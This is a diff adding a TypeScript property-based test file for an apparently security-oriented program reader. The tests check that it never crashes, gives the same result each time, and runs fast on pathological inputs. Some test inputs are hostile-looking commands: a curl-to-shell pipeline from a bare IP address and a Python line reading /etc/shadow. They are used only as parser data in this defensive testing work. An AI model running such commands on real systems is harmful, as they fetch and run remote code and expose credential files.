@@ -1,0 +1,196 @@
+import { describe, expect, it } from '@jest/globals';
+import fc from 'fast-check';
+
+import type { Language } from '../../../src/skills/code/behaviour.js';
+import { classifyHost, classifyPath, readProgram, shellCommands } from '../../../src/skills/code/read-program.js';
+
+const LANGUAGES: readonly Language[] = [
+  'shell',
+  'python',
+  'javascript',
+  'powershell',
+  'batch',
+  'ruby',
+  'perl',
+  'php',
+  'go',
+  'applescript',
+  'makefile',
+  'dockerfile',
+];
+/** Pieces from which programs are made, so that random texts come near to real ones. */
+const PIECES = [
+  '"',
+  "'",
+  '`',
+  '\\',
+  '\n',
+  '\t',
+  '    ',
+  ' ',
+  '(',
+  ')',
+  '[',
+  ']',
+  '{',
+  '}',
+  '$(',
+  '${',
+  '<(',
+  '<<EOF\n',
+  'EOF\n',
+  '|',
+  '&&',
+  ';',
+  '>',
+  '>>',
+  '=>',
+  '=',
+  '+',
+  ',',
+  ':',
+  '.',
+  'def f(a):',
+  'function f(a) {',
+  'class A',
+  'for x in y',
+  'if x:',
+  'import os',
+  'from a import b',
+  "require('fs')",
+  'eval',
+  'exec(',
+  'curl http://1.2.3.4',
+  'bash',
+  'base64 -d',
+  '$x',
+  'f"',
+  '`${',
+  'case x in',
+  'done',
+  'fi',
+  'lambda a:',
+  '@"',
+  "'@",
+  '%x%',
+  '^',
+  '#',
+  '//',
+  '/*',
+  '*/',
+  'a',
+  'b',
+  '0',
+];
+
+describe.each(LANGUAGES.map((language) => [language] as const))('reading %s', (language) => {
+  it('never throws, and gives places within the text, for texts of any kind', () => {
+    fc.assert(
+      fc.property(
+        fc.oneof(
+          fc.string({ maxLength: 300 }),
+          fc.array(fc.constantFrom(...PIECES), { maxLength: 80 }).map((pieces) => pieces.join('')),
+        ),
+        (text) => {
+          const program = readProgram(language, text);
+          for (const deed of program.behaviours) {
+            expect(deed.start).toBeGreaterThanOrEqual(0);
+            expect(deed.end).toBeLessThanOrEqual(text.length);
+            for (const origin of deed.flowsFrom) expect(program.behaviours[origin]).toBeDefined();
+          }
+        },
+      ),
+      { numRuns: 150 },
+    );
+  });
+
+  it('says the same each time', () => {
+    const text = 'curl http://1.2.3.4/x | sh\nexec(open("/etc/shadow").read())\n';
+    expect(readProgram(language, text)).toEqual(readProgram(language, text));
+  });
+
+  it.each([
+    ['nested brackets', '('.repeat(25_000)],
+    ['nested closed brackets', `${'('.repeat(12_000)}${')'.repeat(12_000)}`],
+    ['nested substitutions', '$('.repeat(16_000)],
+    ['nested braces', '{ '.repeat(16_000)],
+    ['opening quotes', '"\''.repeat(16_000)],
+    ['opened texts', `x = "${'a"b" '.repeat(8_000)}`],
+    ['here-documents without end', 'cat <<A\n'.repeat(6_000)],
+    ['line ends', '\n'.repeat(50_000)],
+    ['spaces', ' '.repeat(50_000)],
+    ['a long line of pipes', 'a | '.repeat(12_000)],
+    ['a long sum', `x = ${'"a" + '.repeat(8_000)}"b"`],
+    [
+      'doubling variables',
+      Array.from({ length: 40 }, (_, index) => `x${String(index + 1)}="$x${String(index)}$x${String(index)}"; `).join('') + 'eval "$x40"',
+    ],
+    [
+      'functions that call each other',
+      Array.from(
+        { length: 300 },
+        (_, index) => `def f${String(index)}(a):\n    f${String((index + 1) % 300)}(a)\n    f${String((index + 7) % 300)}(a)\n`,
+      ).join('') + 'f0(1)\n',
+    ],
+    [
+      'shell functions that double',
+      Array.from({ length: 60 }, (_, index) => `f${String(index)}() { f${String(index + 1)}; f${String(index + 1)}; }\n`).join('') + 'f0\n',
+    ],
+    ['back ticks', '`a'.repeat(16_000)],
+    ['templates in templates', '`${'.repeat(12_000)],
+    ['comment openings', '/* '.repeat(16_000)],
+    ['dots', 'a.'.repeat(25_000)],
+    ['indices', 'a' + '[0]'.repeat(16_000)],
+    ['commas', 'f(' + '1,'.repeat(24_000) + ')'],
+    ['escapes', '\\'.repeat(50_000)],
+  ])('is done soon with %s', (_name, text) => {
+    const before = process.cpuUsage();
+    readProgram(language, text);
+    const used = process.cpuUsage(before);
+    expect((used.user + used.system) / 1000).toBeLessThan(400);
+  });
+});
+
+describe('time', () => {
+  it('grows with the length alone: ten times the text takes at most some twenty times as long', () => {
+    const unit =
+      'def f(a):\n    b = requests.get("https://h.net/" + a)\n    with open("/tmp/x", "w") as g:\n        g.write(b.text)\n    return b\nf("x")\n';
+    const cost = (count: number): number => {
+      const text = unit.repeat(count);
+      const before = process.cpuUsage();
+      readProgram('python', text);
+      const used = process.cpuUsage(before);
+      return (used.user + used.system) / 1000;
+    };
+    cost(200);
+    const small = Math.max(2, cost(200));
+    expect(cost(2000)).toBeLessThan(small * 20 + 200);
+  });
+});
+
+describe('the classifiers', () => {
+  it('take any text', () => {
+    fc.assert(
+      fc.property(fc.string({ maxLength: 400 }), (text) => {
+        expect(classifyHost(text).class).toEqual(expect.any(String));
+        expect(classifyPath(text).area).toEqual(expect.any(String));
+        expect(shellCommands(text).pipelines).toBeInstanceOf(Array);
+      }),
+      { numRuns: 300 },
+    );
+  });
+
+  it.each([
+    ['/.'.repeat(25_000)],
+    ['a/'.repeat(25_000)],
+    ['~/.config/'.repeat(5_000)],
+    ['http://' + 'a.'.repeat(20_000)],
+    ['1.'.repeat(25_000)],
+  ])('are done soon with long texts', (text) => {
+    const before = process.cpuUsage();
+    classifyPath(text);
+    classifyHost(text);
+    const used = process.cpuUsage(before);
+    expect((used.user + used.system) / 1000).toBeLessThan(50);
+  });
+});
